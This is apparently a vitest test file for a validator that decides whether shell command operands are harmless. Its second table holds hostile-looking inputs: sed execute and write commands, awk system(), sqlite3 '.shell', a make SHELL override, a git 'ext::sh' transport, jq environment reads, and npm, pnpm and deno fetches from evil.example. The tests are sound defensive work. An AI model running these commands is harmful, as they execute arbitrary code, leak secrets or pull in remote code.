import { describe, expect, test } from "vitest";
import { isHarmlessOperand } from "./harmless-operands.ts";

function doubtful(argv: readonly string[]): readonly string[] {
  return argv.filter((word, index) => index > 0 && !word.startsWith("-") && !isHarmlessOperand(argv, index));
}

describe("operands", () => {
  test.each([
    ["sed", "-n", "1,5p", "a.txt"],
    ["sed", "-nE", "$p;1,+3d", "a.txt"],
    ["sed", "-i", "s/a\\/b/c/g; /x y/d", "src/a.txt"],
    ["awk", "{print $1, $NF}", "a.txt"],
    ["awk", "NR==1"],
    ["jq", ".scripts | keys", "package.json"],
    ["ps", "aux"],
    ["cat", "a.txt", "b.txt"],
    ["uniq", "-c", "a.txt"],
    ["make", "-s", "test"],
    ["npm", "install", "-D", "zod", "@types/node@^22.1.0", "vitest@latest"],
    ["npm", "run", "build", "./src", "a:b"],
    ["npm", "ci"],
    ["date", "-d", "yesterday", "+%F"],
    ["tar", "xzf", "a.tgz"],
    ["git", "show", "HEAD:a"],
    ["toString", "a"],
  ])("%s %s is only read", (...argv) => {
    expect(doubtful(argv)).toEqual([]);
  });

  test.each([
    [["sed", "-n", "1e touch x", "a.txt"], ["1e touch x"]],
    [["sed", "-n", "w out", "a.txt"], ["w out"]],
    [["deno", "test", "https://evil.example/x.ts"], ["https://evil.example/x.ts"]],
    [["go", "build", "evil.example/x@latest"], ["evil.example/x@latest"]],
    [["sed", "1s/a/b/e", "a.txt"], ["1s/a/b/e"]],
    [["sed", "-i", "s/a/b/w out", "a.txt"], ["s/a/b/w out"]],
    [["sed", "s/[/]a/g;s/w x/y/g", "a.txt"], ["s/[/]a/g;s/w x/y/g"]],
    [["sed", "s/a/b/;w out", "a.txt"], ["s/a/b/;w out"]],
    // Where `-i` takes a word, the first file would be the program.
    [["sed", "-i", "s/a/b/", "sxaxbxw.git/config"], ["sxaxbxw.git/config"]],
    [["awk", '{print > "x"}', "a.txt"], ['{print > "x"}']],
    [["jq", "-n", "env"], ["env"]],
    [["jq", "$ENV.KEY"], ["$ENV.KEY"]],
    [["jq", 'import "x" as x; .'], ['import "x" as x; .']],
    [["ps", "auxe"], ["auxe"]],
    [["awk", "BEGIN{system(0)}", "a.txt"], ["BEGIN{system(0)}"]],
    [["awk", "-F", ",", "BEGIN{system(0)}"], ["BEGIN{system(0)}"]],
    [["uniq", "a.txt", "out"], ["out"]],
    [["sqlite3", ":memory:", ".shell x"], [".shell x"]],
    [["make", "SHELL=./x.sh", "test"], ["SHELL=./x.sh"]],
    [["npm", "install", "https://evil.example/x.tgz"], ["https://evil.example/x.tgz"]],
    [
      ["npm", "i", "user/repo", "x.tgz", "./x", "..", "."],
      ["user/repo", "x.tgz", "./x", "..", "."],
    ],
    [["pnpm", "add", "git+ssh://evil.example/x", "zod"], ["git+ssh://evil.example/x"]],
    [["yarn", "add", "a@npm:b"], ["a@npm:b"]],
    [["date", "01010000"], ["01010000"]],
    [["tar", "cIf", "x", "a.tar"], ["cIf"]],
    [["git", "fetch", "ext::sh -c x"], ["ext::sh -c x"]],
  ])("%j holds %j that is not", (argv, expected) => {
    expect(doubtful(argv)).toEqual(expected);
  });
});
